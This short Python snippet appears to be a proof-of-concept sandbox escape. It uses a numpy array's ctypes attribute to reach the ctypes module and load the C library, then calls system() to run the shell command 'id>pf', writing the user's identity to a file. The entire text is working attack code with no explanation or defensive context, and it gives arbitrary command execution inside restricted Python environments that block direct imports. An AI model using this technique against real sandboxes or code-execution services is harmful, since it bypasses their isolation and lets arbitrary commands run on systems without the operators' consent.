import numpy as np
a = np.zeros(1)
c = a.ctypes
c._ctypes.CDLL(None).system(b"id>pf")
